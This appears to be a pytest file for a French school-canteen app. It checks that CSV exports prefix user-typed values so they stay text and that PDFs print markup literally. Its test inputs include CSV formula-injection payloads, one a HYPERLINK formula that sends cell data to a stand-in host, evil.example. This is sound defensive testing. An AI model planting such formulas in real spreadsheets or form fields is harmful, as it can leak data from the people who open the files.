"""What people type never becomes a formula in our CSV files nor markup in our PDFs: the audit
CSV, the kitchen's CSV and PDF, the invoice PDF, with the payloads of issue 13."""

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from pypdf import PdfReader

from lib.services import invoicing, kitchen, reservations, trail
from tests.conftest import DEMO_NOW, DEMO_TODAY, login

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1;"Cliquez")', "+1+1", "-2+3", "@SUM(1;2)", "\t=1+1", "\r=1+1"]
MARKUP = "<b>O'Brien & <Fils>"


def cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))


def pdf_text(body: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)


@pytest.mark.parametrize("reason", FORMULAS)
def test_an_agents_reason_is_text_in_the_audit_csv(demo_db, reason):
    agent, admin = login(demo_db, "agent@demo.fr"), login(demo_db, "admin@demo.fr")
    _, year = reservations.school_years(demo_db, DEMO_TODAY)
    lea = reservations.booking_context(demo_db, agent, 1, year.id)
    reservations.set_day(
        demo_db, agent, lea, lea.services[0].id, date(2026, 11, 30), False, DEMO_NOW, late=True, reason=reason
    )
    rows = cells(trail.journal_csv(demo_db, admin))
    assert rows[0] == trail.CSV_HEADERS
    [written] = [row[4] for row in rows[1:] if row[4]]
    assert written.startswith("'") and written[1:] in (reason, reason.strip())


def test_site_and_diet_names_are_text_in_the_kitchen_csv_and_counts_stay_numbers(demo_db):
    def rename(cur):
        for site_id, name in zip((1, 2, 3), FORMULAS[:3]):
            cur.execute("UPDATE sites SET name = ? WHERE id = ?", [name, site_id])
        for code, name in zip(("standard", "sans_porc", "vegetarien"), FORMULAS[3:]):
            cur.execute("UPDATE diets SET label = ? WHERE code = ?", [name, code])

    demo_db.write(rename)
    cook = login(demo_db, "cuisine@demo.fr")
    rows = cells(kitchen.sheet_file(demo_db, cook, date(2026, 11, 30), DEMO_NOW, "csv", count_as_printed=False))
    body = [row for row in rows[1:] if row and row[1] != "TOTAL" and row[0] != "Statut"]
    assert body and {row[1][1:] for row in body} <= set(FORMULAS)
    assert {row[3][1:] for row in body if row[3] != "PAI panier-repas"} <= set(FORMULAS)
    assert all(row[1].startswith("'") and re.fullmatch(r"\d+", row[4]) for row in body)


def test_every_csv_file_is_written_by_the_one_function():
    """No csv writer or DataFrame.to_csv besides lib/domain/spreadsheet.py: a new export cannot forget the rule."""
    sources = list((ROOT / "lib").rglob("*.py")) + list((ROOT / "pages").glob("*.py")) + [ROOT / "app.py"]
    offenders = [
        str(p.relative_to(ROOT))
        for p in sources
        if p.name != "spreadsheet.py"
        and re.search(r"\bcsv\.(writer|DictWriter)\(|\.to_csv\(|^import csv\b", p.read_text(), re.M)
    ]
    assert offenders == []


def test_a_family_named_with_markup_gets_a_readable_invoice_pdf(demo_db):
    demo_db.write(
        lambda cur: cur.execute(
            "UPDATE families SET name = ?, address = ? WHERE id = 1", [MARKUP, "12 <rue> des Lilas & Cie"]
        )
    )
    parent = login(demo_db, "parent@demo.fr")
    invoice = demo_db.value("SELECT id FROM invoices WHERE number = 'F-2026-000267'")
    body = invoicing.invoice_pdf(demo_db, parent, invoice, DEMO_NOW)
    text = pdf_text(body)
    assert MARKUP in text and "12 <rue> des Lilas & Cie" in text and "F-2026-000267" in text


def test_markup_in_site_service_and_diet_names_prints_as_typed_on_the_kitchen_sheet(demo_db):
    demo_db.write(
        lambda cur: (
            cur.execute("UPDATE sites SET name = ? WHERE id = 1", [MARKUP]),
            cur.execute("UPDATE diets SET label = 'Sans <porc> & co' WHERE code = 'sans_porc'"),
            cur.execute("UPDATE settings SET value = 'Belcastel <i>' WHERE key = 'town_name'"),
        )
    )
    cook = login(demo_db, "cuisine@demo.fr")
    text = pdf_text(kitchen.sheet_file(demo_db, cook, date(2026, 11, 30), DEMO_NOW, "pdf", count_as_printed=False))
    assert MARKUP in text and "Sans <porc> & co" in text and "Belcastel <i>" in text
